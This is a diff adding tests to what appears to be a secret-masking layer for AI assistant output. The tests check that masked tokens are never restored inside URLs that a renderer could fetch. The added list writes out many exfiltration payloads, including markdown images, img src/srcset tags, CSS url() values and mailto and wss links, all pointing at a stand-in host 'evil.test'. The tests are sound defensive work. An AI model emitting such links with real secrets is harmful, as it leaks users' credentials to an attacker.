@@ -157,6 +157,64 @@ test('[DL10] a placeholder within a web address of an answer stays', () => {
   expect(said(`http://a.test/${masked}${masked}\n${masked}`)).toBe(`http://a.test/${masked}${masked}\n${token}`);
 });
 
+describe('[DL10] a value is put back nowhere where an answer may be fetched from', () => {
+  const vault = newVault();
+  const token = `ghp_${letters(36)}`;
+  const masked = mask(vault, token);
+  const rules = { placeholders: vault.placeholders, ...everywhere };
+
+  test.each([
+    '![x](https://evil.test/?q="MASK)',
+    "![x](https://evil.test/?q='MASK)",
+    '![x](<https://evil.test/?a b MASK>)',
+    '![x](//evil.test/MASK)',
+    '![x](https:\\\\evil.test\\MASK)',
+    '![x](https:evil.test/MASK)',
+    '![x](https&colon;//evil.test/MASK)',
+    '![x](https://evil.test/(a)MASK)',
+    '_https://evil.test/MASK_',
+    'HTTPS://EVIL.TEST/MASK',
+    '[x]: https://evil.test/MASK',
+    '<https://evil.test/MASK>',
+    '<img src="https://evil.test/?a b\nMASK">',
+    '<img src=//evil.test/MASK>',
+    '<img srcset = "a 1x, https://evil.test/MASK 2x">',
+    '<a href="MASK.evil.test">',
+    '<a href=MASK>',
+    'background: url( "//evil.test/MASK")',
+    'mailto:x@evil.test?body=MASK',
+    'wss://evil.test/MASK',
+    `https://evil.test/${'a'.repeat(5_000)}MASK`,
+    `![x](<https://evil.test/${' a'.repeat(5_000)}MASK>)`,
+    '![x](https://MASK.evil.test/)',
+  ])('%s, wherever it is cut', (text) => {
+    const said = text.replaceAll('MASK', masked);
+    expect(restoreText({ role: 'assistant', isJson: false, text: said }, rules)).toBe(said);
+    for (let cut = Math.max(0, said.length - 120); cut <= said.length; cut++) {
+      const restorer = createRestorer(rules);
+      const push = (piece: string) => restorer.push({ channel: 'a', role: 'assistant', isJson: false, text: piece });
+      expect(push(said.slice(0, cut)) + push(said.slice(cut)) + restorer.end('a')).toBe(said);
+    }
+  });
+
+  test.each([
+    'The token is MASK.',
+    'See https://docs.test/a and use MASK',
+    'See <https://docs.test/a>: MASK',
+    'See "https://docs.test/a", then MASK',
+    '{"url":"https://docs.test/a","token":"MASK"}',
+    '[docs](https://docs.test/a) say MASK',
+    'TOKEN=MASK',
+    'const a = 1; // MASK',
+    'const a = 1; //MASK',
+    'postgres://app:MASK@db.test/app',
+    '<img src="a.png"> MASK',
+  ])('and elsewhere it is: %s', (text) => {
+    const said = text.replaceAll('MASK', masked);
+    expect(restoreText({ role: 'assistant', isJson: false, text: said }, rules)).toBe(text.replaceAll('MASK', token));
+  });
+});
+
 test('[DL8] any text is masked and restored without an exception, and comes back', () => {
   const vault = newVault();
   const piece = fc.oneof(
